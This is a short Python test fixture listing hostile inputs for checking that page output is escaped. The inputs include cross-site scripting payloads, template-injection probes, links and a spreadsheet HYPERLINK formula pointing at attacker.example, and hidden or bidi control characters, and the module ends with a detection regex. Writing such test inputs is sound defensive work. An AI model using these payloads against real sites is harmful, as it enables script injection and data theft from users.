"""Texts that try to run, to fetch, to break out of their place, or to hide and reverse what a page says."""

from __future__ import annotations

import re

RUN = "window.ran=1;alert(1)"
URL = "https://attacker.example/x"
TEXTS = (
    f"<script>{RUN}</script>",
    f"</script><script>{RUN}</script><!--",
    f"<!--<script>{RUN}//--></script>",
    f'"><img src=x onerror="{RUN}">',
    f"'><svg/onload='{RUN}'>",
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'" autofocus onfocus="{RUN}" x="',
    f"' onmouseover='{RUN}' style='position:fixed;inset:0",
    f"<img src={URL}><link rel=stylesheet href={URL}><meta http-equiv=refresh content='0;url={URL}'>",
    f'<a href="javascript:{RUN}">javascript:{RUN}</a>',
    f"data:text/html,<script>{RUN}</script>",
    f"</style><style>*{{background:url({URL})}}</style>",
    f"}}body{{background:url({URL})}}/*",
    f"</title><script>{RUN}</script>",
    f"</textarea><base href={URL}/><form action={URL}><input name=x></form>",
    "{{ 7 * 7 }}{% for x in config %}{{ x }}{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
    "{{constructor.constructor('alert(1)')()}}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;&quot;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e\\",
    "]]><![CDATA[<script>alert(1)</script>",
    "`${alert(1)}`';alert(1);//\";alert(1);//",
    "yes\u202eon\u202c \u2066\u2067\u2068right\u2069 \u200e\u200f\u061c",
    "zero\u200bwidth\ufeff \u2060joined \U000e0041",
    "null\x00bell\x07escape\x1b[31mred\x9b0m back\x08 del\x7f",
    "line\u2028paragraph\u2029tab\tnew\nline\rreturn",
    '=HYPERLINK("https://attacker.example";"x")',
    "half \ud800 pair \udfff",
    "__proto__",
    "constructor",
    "x" * 3000,
)
# What must never stand in a page as it is: a reader could not see it, or would read the text in another order.
UNSEEN = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\U000e0000-\U000e007f]"
)
